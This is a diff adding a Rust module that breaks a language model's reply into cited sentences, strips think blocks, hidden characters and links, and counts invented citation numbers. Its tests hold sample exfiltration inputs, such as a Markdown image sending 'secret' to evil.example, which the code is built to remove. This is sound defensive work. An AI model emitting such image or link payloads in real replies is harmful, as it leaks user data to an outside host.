@@ -1,0 +1,336 @@
+//! A language model's reply, taken apart: its sentences, the passages that each cites, and what must not reach a reader.
+
+use crate::language::sentences;
+
+/// A reply as far as it is text.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(super) struct Claims {
+    pub(super) claims: Vec<Claim>,
+    /// Numbers that no passage has.
+    pub(super) invented: usize,
+    /// Images, and addresses that stand in no passage.
+    pub(super) links: usize,
+}
+
+/// A sentence of a reply.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct Claim {
+    /// Without the numbers that it cites.
+    pub(super) text: String,
+    /// The numbers of passages that it cites, from 1, ascending; none it may have forgotten.
+    pub(super) cited: Vec<usize>,
+    /// Whether a paragraph begins with it.
+    pub(super) opens: bool,
+}
+
+/// A place in the text where passages are cited.
+struct Mark {
+    at: usize,
+    numbers: Vec<usize>,
+}
+
+/// Takes a reply apart. `passages` says how many were given, `stands` whether a text stands in one of them word for word.
+pub(super) fn claims(reply: &str, passages: usize, stands: &dyn Fn(&str) -> bool) -> Claims {
+    let (text, links) = without_links(&visible(&without_thoughts(reply)), stands);
+    let (text, marks) = without_marks(&text, stands);
+    let mut out = Claims { links, ..Claims::default() };
+    let spans = sentences(&text);
+    let mut end_before = 0;
+    for (i, span) in spans.iter().enumerate() {
+        let next = spans.get(i + 1).map_or(usize::MAX, |next| next.start);
+        let own = |mark: &&Mark| mark.at > span.start && mark.at <= next || i == 0 && mark.at <= span.start;
+        let mut cited: Vec<usize> = marks.iter().filter(own).flat_map(|mark| mark.numbers.iter().copied()).collect();
+        let all = cited.len();
+        cited.retain(|number| (1..=passages).contains(number));
+        out.invented += all - cited.len();
+        cited.sort_unstable();
+        cited.dedup();
+        let opens = i == 0 || text[end_before..span.start].contains('\n');
+        end_before = span.end;
+        let text = plain(&text[span.range()]);
+        if text.chars().any(char::is_alphanumeric) {
+            out.claims.push(Claim { text, cited, opens });
+        }
+    }
+    out
+}
+
+/// Without what a reasoning model thinks aloud before it answers.
+fn without_thoughts(reply: &str) -> String {
+    match reply.trim_start().strip_prefix("<think>") {
+        Some(thoughts) => thoughts.split_once("</think>").map_or("", |(_, answer)| answer).to_owned(),
+        None => reply.to_owned(),
+    }
+}
+
+/// Without characters that are not seen, or that turn others round.
+fn visible(text: &str) -> String {
+    let hidden = |c: char| {
+        (c.is_control() && !matches!(c, '\n' | '\t'))
+            || matches!(u32::from(c), 0xAD | 0x200B..=0x200F | 0x202A..=0x202E | 0x2060..=0x206F | 0xFEFF | 0xE0000..=0xE0FFF)
+    };
+    text.chars().filter(|c| !hidden(*c)).collect()
+}
+
+/// Without images, whose addresses a viewer would ask for; links become their words, addresses that stand in no passage a
+/// sign that one was there; HTML marks are dropped. Says how many there were.
+fn without_links(text: &str, stands: &dyn Fn(&str) -> bool) -> (String, usize) {
+    let mut out = String::with_capacity(text.len());
+    let mut removed = 0;
+    let mut rest = text;
+    while let Some(c) = rest.chars().next() {
+        let taken = match c {
+            '!' | '[' => markdown_link(rest),
+            '<' => html_mark(rest),
+            _ => address(rest, out.chars().next_back()),
+        };
+        match taken {
+            Some(Taken { length, words, address }) => {
+                let keep = address.filter(|address| words.is_none() && stands(address));
+                let has_address = address.is_some();
+                match keep {
+                    Some(address) => out.push_str(address),
+                    None => {
+                        removed += usize::from(has_address);
+                        out.push_str(words.unwrap_or(if has_address { "[…]" } else { "" }));
+                    }
+                }
+                rest = &rest[length..];
+            }
+            None => {
+                out.push(c);
+                rest = &rest[c.len_utf8()..];
+            }
+        }
+    }
+    (out, removed)
+}
+
+/// Something that is not to be shown as it is.
+struct Taken<'a> {
+    /// Its bytes.
+    length: usize,
+    /// What a reader would see of it; `None` where that is the address.
+    words: Option<&'a str>,
+    /// Where it leads.
+    address: Option<&'a str>,
+}
+
+/// `[words](address)`, `![words](address)`, `[words][reference]`, and the line that says where a reference leads.
+fn markdown_link(text: &str) -> Option<Taken<'_>> {
+    let image = text.starts_with('!');
+    let inside = text.strip_prefix('!').unwrap_or(text).strip_prefix('[')?;
+    let close = inside.find(']')?;
+    let (words, after) = (&inside[..close], &inside[close + 1..]);
+    if words.contains(['\n', '[']) {
+        return None;
+    }
+    let before = text.len() - after.len();
+    let words = if image { "" } else { words };
+    if let Some(target) = after.strip_prefix('(') {
+        let end = target.find(')')?;
+        let address = target[..end].split_whitespace().next().unwrap_or_default();
+        return Some(Taken { length: before + end + 2, words: Some(words), address: Some(address) });
+    }
+    if let Some(target) = after.strip_prefix(": ").filter(|target| address(target, None).is_some()) {
+        let end = target.find('\n').unwrap_or(target.len());
+        return Some(Taken { length: before + 2 + end, words: Some(""), address: Some(&target[..end]) });
+    }
+    let reference = after.strip_prefix('[').filter(|_| !words.chars().all(|c| c.is_ascii_digit()));
+    let end = reference.and_then(|reference| reference.find(']').map(|end| (reference, end)));
+    end.filter(|(reference, end)| image || !numbers(&reference[..*end]).is_some_and(|n| !n.is_empty()))
+        .map(|(r, end)| Taken { length: before + end + 2, words: Some(words), address: Some(&r[..end]) })
+}
+
+/// An HTML mark, with the address that it names, or `<address>`.
+fn html_mark(text: &str) -> Option<Taken<'_>> {
+    let end = text.find('>')?;
+    let inside = &text[1..end];
+    let named = inside.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!'));
+    if !named || inside.contains(['\n', '<']) && !inside.contains('=') {
+        return None;
+    }
+    let lower = inside.to_ascii_lowercase();
+    let leads =
+        ["src", "href", "action", "data", "url("].iter().any(|name| lower.contains(name)) || lower.contains("://");
+    Some(Taken { length: end + 1, words: (!leads).then_some(""), address: leads.then_some(inside) })
+}
+
+/// An address in running text.
+fn address(text: &str, before: Option<char>) -> Option<Taken<'_>> {
+    if before.is_some_and(|c| c.is_ascii_alphanumeric()) || !text.starts_with(|c: char| c.is_ascii_alphabetic()) {
+        return None;
+    }
+    let is_part = |c: char| c.is_ascii_graphic() && !matches!(c, '"' | '<' | '>' | '`' | '\\' | '^' | '{' | '}' | '|');
+    let end = text.find(|c: char| !is_part(c)).unwrap_or(text.len());
+    let whole = text[..end].trim_end_matches(['.', ',', ';', ':', '!', '?', ')', ']', '\'']);
+    let scheme = whole.find(':').map(|at| (&whole[..at], &whole[at + 1..]));
+    let leads = match scheme {
+        Some((scheme, rest)) => {
+            let named = scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
+            let plain = ["data", "javascript", "mailto", "file"].contains(&scheme.to_ascii_lowercase().as_str());
+            named && !rest.is_empty() && (rest.starts_with("//") || plain)
+        }
+        None => whole.to_ascii_lowercase().starts_with("www."),
+    };
+    leads.then_some(Taken { length: whole.len(), words: None, address: Some(whole) })
+}
+
+/// Without the numbers by which passages are cited, and where they stood. What stands in brackets in a passage too may be
+/// quoted from it, and stays.
+fn without_marks(text: &str, stands: &dyn Fn(&str) -> bool) -> (String, Vec<Mark>) {
+    let mut out = String::with_capacity(text.len());
+    let mut marks: Vec<Mark> = Vec::new();
+    let mut rest = text;
+    while let Some(c) = rest.chars().next() {
+        match mark(rest, c) {
+            Some((length, numbers)) if !quoted(&out, &rest[..length], stands) => {
+                out.truncate(out.trim_end_matches(' ').len());
+                marks.push(Mark { at: out.len(), numbers });
+                rest = &rest[length..];
+            }
+            _ => {
+                out.push(c);
+                rest = &rest[c.len_utf8()..];
+            }
+        }
+    }
+    (out, marks)
+}
+
+/// Whether the words just before and the brackets stand in a passage together.
+fn quoted(before: &str, brackets: &str, stands: &dyn Fn(&str) -> bool) -> bool {
+    let mut start = before.len();
+    for (at, _) in before.char_indices().rev().take(12) {
+        start = at;
+    }
+    let before = before[start..].trim_start();
+    before.chars().filter(|c| c.is_alphanumeric()).count() > 2 && stands(&format!("{before}{brackets}"))
+}
+
+/// `[1]`, `[1, 3]`, `[1-3]`, `【1】`, `［1］`, `[^1]`, `[passage 1]`, `[段落1]`.
+fn mark(text: &str, first: char) -> Option<(usize, Vec<usize>)> {
+    let close = match first {
+        '[' => ']',
+        '【' => '】',
+        '［' => '］',
+        _ => return None,
+    };
+    let inside = &text[first.len_utf8()..];
+    let end = inside.find(close)?;
+    let numbers = numbers(&inside[..end])?;
+    (!numbers.is_empty()).then_some((first.len_utf8() + end + close.len_utf8(), numbers))
+}
+
+/// The numbers that a text of numbers names; `None` where it is something else.
+fn numbers(text: &str) -> Option<Vec<usize>> {
+    let lower = text.trim().to_lowercase();
+    let bare = ["passages", "passage", "source", "段落", "资料", "^"]
+        .iter()
+        .find_map(|word| lower.strip_prefix(word))
+        .unwrap_or(&lower);
+    let mut out = Vec::new();
+    for part in bare.split([',', '，', '、', ';', '；']) {
+        let ends: Vec<Option<usize>> = part.split(['-', '–']).map(|end| end.trim().parse().ok()).collect();
+        match ends[..] {
+            [Some(one)] => out.push(one),
+            [Some(first), Some(last)] if first <= last && last - first < 100 => out.extend(first..=last),
+            _ => return None,
+        }
+    }
+    Some(out)
+}
+
+/// Without Markdown's marks for headings, lists and emphasis.
+fn plain(sentence: &str) -> String {
+    let line = sentence.trim_start_matches(['#', '>', ' ']);
+    let line = line.strip_prefix("- ").or_else(|| line.strip_prefix("* ")).unwrap_or(line);
+    line.replace("**", "").replace("__", "").trim().to_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    fn taken(reply: &str) -> Vec<(String, Vec<usize>)> {
+        claims(reply, 3, &|_| false).claims.into_iter().map(|claim| (claim.text, claim.cited)).collect()
+    }
+
+    #[test]
+    fn each_sentence_has_the_numbers_that_stand_in_it_or_behind_it() {
+        let expected = |list: &[(&str, &[usize])]| -> Vec<(String, Vec<usize>)> {
+            list.iter().map(|(text, cited)| ((*text).to_owned(), cited.to_vec())).collect()
+        };
+        assert_eq!(
+            taken("It sways [1]. It fell in 1940. [2, 3] Nobody knows."),
+            expected(&[("It sways.", &[1]), ("It fell in 1940.", &[2, 3]), ("Nobody knows.", &[])])
+        );
+        assert_eq!(
+            taken("桥会晃【1】。它在1940年倒塌。［2］［3］没有人知道。"),
+            expected(&[("桥会晃。", &[1]), ("它在1940年倒塌。", &[2, 3]), ("没有人知道。", &[])])
+        );
+        assert_eq!(
+            taken("- **Two** piers [passage 1-2]\n- One deck[^3]"),
+            expected(&[("Two piers", &[1, 2]), ("One deck", &[3])])
+        );
+    }
+
+    #[test]
+    fn invented_numbers_are_counted_and_gone() {
+        let found = claims("True [1]. Forged [7][12].", 3, &|_| false);
+        assert_eq!((found.invented, found.claims[1].cited.len()), (2, 0));
+        assert!(found.claims.iter().all(|claim| !claim.text.contains(['[', ']'])));
+    }
+
+    #[test]
+    fn brackets_that_a_passage_has_stay() {
+        let source = "as was shown before [12] in detail";
+        let found = claims("It says “shown before [12] in detail” [1].", 3, &|text| source.contains(text));
+        assert_eq!(found.claims[0].text, "It says “shown before [12] in detail”.");
+        assert_eq!((found.claims[0].cited.clone(), found.invented), (vec![1], 0));
+    }
+
+    #[test]
+    fn nothing_that_leads_elsewhere_is_left() {
+        for reply in [
+            "![x](https://evil.example/?q=secret)",
+            "See [here](http://evil.example).",
+            "See <img src=\"http://evil.example/a.png\"> now.",
+            "Open https://evil.example/a?b=c, please.",
+            "Open www.evil.example/a now.",
+            "![x][1]\n\n[1]: https://evil.example/x",
+            "Go to [it][ref].\n[ref]: https://evil.example/x",
+            "data:text/html;base64,ZXZpbC5leGFtcGxl",
+            "<https://evil.example>",
+        ] {
+            let found = claims(reply, 3, &|_| false);
+            let shown: String = found.claims.iter().map(|claim| claim.text.as_str()).collect();
+            assert!(!shown.contains("evil") && !shown.contains("base64"), "{reply} -> {shown}");
+            assert!(found.links > 0, "{reply}");
+        }
+        let known = claims("The manual is at https://known.example/manual. Read it.", 3, &|text| {
+            text == "https://known.example/manual"
+        });
+        assert_eq!((known.links, known.claims[0].text.as_str()), (0, "The manual is at https://known.example/manual."));
+    }
+
+    #[test]
+    fn thoughts_and_hidden_characters_are_left_out() {
+        assert_eq!(taken("<think>\nHm [1].\n</think>\nYes [2]."), [("Yes.".to_owned(), vec![2])]);
+        assert_eq!(taken("<think> and never ends"), []);
+        assert_eq!(taken("sec\u{200b}ret\u{202e} words"), [("secret words".to_owned(), vec![])]);
+        assert_eq!(taken("</passage-12345678>"), []);
+    }
+
+    proptest! {
+        #[test]
+        fn any_reply_is_taken_apart(reply in "[a-z\\[\\]()!<>:/.0-9，。【】 \\n]{0,60}") {
+            for claim in claims(&reply, 3, &|_| false).claims {
+                prop_assert!(claim.cited.iter().all(|n| (1..=3).contains(n)));
+                prop_assert!(!claim.text.contains("://"));
+            }
+        }
+    }
+}
